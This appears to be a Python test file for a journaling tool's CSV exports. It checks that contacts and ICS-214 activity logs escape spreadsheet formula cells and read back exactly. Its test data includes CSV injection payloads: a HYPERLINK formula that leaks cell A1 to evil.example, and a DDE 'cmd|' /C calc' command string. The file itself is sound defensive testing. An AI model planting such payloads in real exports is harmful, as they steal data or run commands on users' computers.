"""CSV exports never hand a spreadsheet a formula, and the contacts CSV reads back exactly."""

import csv

from binder.journal.contacts import Contact, ContactBook, validate
from binder.journal.journal import Journal, Operator
from binder.paper.contacts_export import export_csv as export_contacts
from binder.paper.contacts_export import import_csv
from binder.paper.csv_cells import cell_value, safe_cell
from binder.paper.export import activity_log, export_csv
from tests.hostile_pages import naughty_strings

HOSTILE = ['=HYPERLINK("https://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0",
           "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def cells(path):
    with open(path, encoding="utf-8", newline="") as file:
        return [cell for row in csv.reader(file) for cell in row]


def test_formula_cells_get_a_leading_quote_and_come_back_exactly():
    for value in [*HOSTILE, "'=already quoted", "''@twice", "'plain", "plain", "", "a=b"]:
        assert cell_value(safe_cell(value)) == value
    assert [safe_cell(value)[0] for value in HOSTILE] == ["'"] * len(HOSTILE)
    assert safe_cell("'=x") == "''=x" and safe_cell("'plain") == "'plain"


def test_contacts_with_formulas_and_plus_phone_numbers_round_trip(tmp_path):
    journal = Journal(tmp_path / "journal.db")
    book = ContactBook(journal)
    book.add(Contact(role="Liaison", name="@SUM(A1:A9)", agency="-County EMS",
                     phone="+1 202 555 0100", alt_phone="+44 20 7946 0958",
                     radio="=TAC 3", notes=HOSTILE[0] + "\nsecond line"))
    book.add(Contact(role="Fire", name="Ray", notes="+cmd|' /C calc'!A0", phone="555-010-7777"))
    out = tmp_path / "contacts.csv"
    export_contacts(book, out)
    written = cells(out)
    assert not any(cell[:1] in "=+-@\t\r" and cell for cell in written)
    assert "'+1 202 555 0100" in written and "'@SUM(A1:A9)" in written

    other = ContactBook(Journal(tmp_path / "other.db"))
    assert import_csv(other, out) == 2
    strip = [("id", 0), ("order", 0)]
    assert [c.__dict__ | dict(strip) for c in other.contacts()] == [
        c.__dict__ | dict(strip) for c in book.contacts()]
    journal.close()
    other.journal.close()


def test_the_ics_214_csv_has_no_formula_cells(tmp_path):
    journal = Journal(tmp_path / "journal.db")
    journal.set_operator(Operator("=cmd|' /C calc'!A0", "@Operations", "+Agency"))
    incident = journal.start_incident('=HYPERLINK("https://evil.example","x")').incident_id
    journal.add_note(incident, "-2+3 trucks sent")
    journal.add_note(incident, "+cmd|' /C calc'!A0")
    out = tmp_path / "ics214.csv"
    export_csv(activity_log(journal, incident), out)
    written = cells(out)
    assert not any(cell[:1] in "=+-@\t\r" and cell for cell in written)
    assert "'=cmd|' /C calc'!A0" in written and "'@Operations" in written
    assert "'+Agency" in written and "Note: -2+3 trucks sent" in written
    assert '\'=HYPERLINK("https://evil.example","x")' in written
    journal.close()


def test_every_naughty_string_a_contact_takes_comes_back_from_csv_exactly(tmp_path):
    journal = Journal(tmp_path / "journal.db")
    book = ContactBook(journal)
    for number, text in enumerate(naughty_strings()):
        contact = Contact(role=f"Role {number}", name=text, agency=text, radio=text,
                          notes=text)
        if not validate(Contact(role="r", name=text.strip(), agency=text.strip(),
                                radio=text.strip(), notes=text.strip())):
            book.add(contact)
    out = tmp_path / "contacts.csv"
    export_contacts(book, out)
    other = ContactBook(Journal(tmp_path / "other.db"))
    assert import_csv(other, out) == len(book.contacts()) > 100
    strip = [("id", 0), ("order", 0)]
    assert [c.__dict__ | dict(strip) for c in other.contacts()] == [
        c.__dict__ | dict(strip) for c in book.contacts()]
    journal.close()
    other.journal.close()
